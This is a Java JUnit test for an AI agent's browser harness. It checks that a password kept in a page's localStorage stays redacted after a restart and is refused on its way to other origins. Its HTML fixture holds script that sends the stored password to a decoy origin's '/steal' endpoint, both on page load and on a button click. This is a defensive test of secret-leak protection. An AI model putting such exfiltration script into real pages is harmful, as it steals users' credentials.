package dev.periscope.harness.host;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.net.httpserver.HttpServer;
import dev.periscope.api.Cancellation;
import dev.periscope.api.tool.ToolResult;
import dev.periscope.credentials.CredentialStore;
import dev.periscope.harness.InstalledProfiles;
import dev.periscope.harness.TestProjects;
import dev.periscope.harness.profile.HarnessHome;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A page that kept a filled credential in its own storage, after the host restarts: the browser
 * restored from the session's checkpoint holds the secret again (in localStorage), though the new
 * process never filled it. It is redacted from the first observation and refused on its way to any
 * other origin, as it was before the restart; its own origin still gets it.
 */
class SecretsAfterRestartTest {
  static final String SECRET =
      "Rs" + HexFormat.of().formatHex(new SecureRandom().generateSeed(8)) + "-p@ss";

  /** The bank's login keeps what is typed into its password field in localStorage. */
  static final String LOGIN =
      """
      <!doctype html><html><head><title>Bank</title></head><body>
      <label for="pw">Password</label>
      <input id="pw" type="password" oninput="localStorage.setItem('kept', this.value)"
        onchange="localStorage.setItem('kept', this.value)">
      </body></html>""";

  /**
   * The bank's account page shows what it kept, and sends it to {@code decoy} (another origin the
   * policy admits) or to itself when asked.
   */
  static String account(String decoy) {
    return """
        <!doctype html><html><head><title>Account</title></head><body>
        <p id="kept"></p>
        <script>document.getElementById('kept').textContent = 'Kept: ' + localStorage.getItem('kept');
          // As it loads, too: a restored page runs before anyone acts on it.
          new Image().src = '%1$s/onload?d=' + encodeURIComponent(localStorage.getItem('kept'));</script>
        <button onclick="fetch('%1$s/steal?d=' + encodeURIComponent(localStorage.getItem('kept')))
          .then(() => document.getElementById('out').textContent = 'Sent away', () => document.getElementById('out').textContent = 'Refused away')">Send away</button>
        <button onclick="fetch('/mine?d=' + encodeURIComponent(localStorage.getItem('kept')))
          .then(() => document.getElementById('out').textContent = 'Sent home', () => document.getElementById('out').textContent = 'Not sent home')">Send home</button>
        <p id="out"></p>
        </body></html>"""
        .formatted(decoy);
  }

  @TempDir Path homeDir;
  @TempDir Path project;
  private HarnessHome home;
  private HttpServer bank;
  private HttpServer decoy;
  private final List<String> stolen = new CopyOnWriteArrayList<>();
  private final List<String> homeBound = new CopyOnWriteArrayList<>();

  @BeforeEach
  void start() throws Exception {
    decoy = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    decoy.createContext(
        "/",
        e -> {
          stolen.add(e.getRequestURI().toString());
          e.getResponseHeaders().set("Access-Control-Allow-Origin", "*");
          e.sendResponseHeaders(204, -1);
          e.close();
        });
    decoy.start();
    String decoyOrigin = "http://127.0.0.1:" + decoy.getAddress().getPort();
    bank = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    bank.createContext(
        "/",
        e -> {
          String path = e.getRequestURI().getPath();
          if (path.equals("/mine")) {
            homeBound.add(e.getRequestURI().toString());
            e.sendResponseHeaders(204, -1);
            e.close();
            return;
          }
          CredentialCanaryTest.respond(
              e, path.equals("/login") ? LOGIN : account(decoyOrigin), null);
        });
    bank.start();
    home = new HarnessHome(homeDir);
    InstalledProfiles.install(home, "p");
    new CredentialStore(home.profile("p").dir()).put("bank", SECRET.toCharArray());
    TestProjects.project(
        project,
        """
        credentials:
          bank: {store: bank, origins: ["%s"]}
        approval:
          rules: [{tool: browser_fill_credential, credential: bank, decision: allow}]
        plugins:
          browser:
            pool: {spare: false}
            network: {mode: allowlist, allowCidrs: ["127.0.0.1/32"]}
        """
            .formatted(url("")));
  }

  @AfterEach
  void stop() {
    bank.stop(0);
    decoy.stop(0);
  }

  private String url(String path) {
    return "http://127.0.0.1:" + bank.getAddress().getPort() + path;
  }

  private static ToolResult ok(ToolResult r) {
    assertFalse(r.isError(), r.text());
    return r;
  }

  private static ToolResult call(Host host, String tool, Map<String, Object> args) {
    return host.call("agent", tool, args, Cancellation.none());
  }

  @Test
  void aSecretTheRestoredPageKeptIsRedactedAndGoesOnlyToItsOwnOriginAfterTheHostRestarts()
      throws Exception {
    try (Host host = Host.start(home, "p", project, Host.Options.defaults())) {
      ToolResult login = ok(call(host, "browser_open", Map.of("url", url("/login"))));
      Map<String, Object> field = DownloadsTest.target(login, "Password");
      field.put("credential_ref", "bank");
      ok(call(host, "browser_fill_credential", field));
      ToolResult account = ok(call(host, "browser_open", Map.of("url", url("/account"))));
      assertTrue(account.text().contains("Kept: [REDACTED:bank]"), account.text());
    }

    // A new host: nothing of the first process is in memory; the session's checkpoint restores
    // the page, and its localStorage with the secret in it.
    try (Host host = Host.start(home, "p", project, Host.Options.defaults())) {
      ToolResult restored = ok(call(host, "browser_observe", Map.of()));
      assertTrue(restored.text().contains("Kept: [REDACTED:bank]"), restored.text());
      assertFalse(restored.text().contains(SECRET), restored.text());
      ToolResult away =
          ok(call(host, "browser_click", DownloadsTest.target(restored, "Send away")));
      ToolResult seen =
          ok(call(host, "browser_wait", Map.of("until", "text-visible", "text", "Refused away")));
      assertTrue(
          String.join("\n", away.text(), seen.text()).contains("carrying the secret \"bank\""),
          away.text() + "\n" + seen.text());
      assertFalse(seen.text().contains(SECRET), seen.text());
      ok(call(host, "browser_click", DownloadsTest.target(seen, "Send home")));
      ToolResult sent =
          ok(call(host, "browser_wait", Map.of("until", "text-visible", "text", "Sent home")));
      assertFalse(sent.text().contains(SECRET), sent.text());
    }
    assertEquals(List.of(), stolen, "the decoy received nothing");
    assertEquals(1, homeBound.size(), "its own origin still gets it: " + homeBound);
    assertTrue(
        java.net.URLDecoder.decode(homeBound.get(0), StandardCharsets.UTF_8).contains(SECRET),
        homeBound.toString());
  }
}
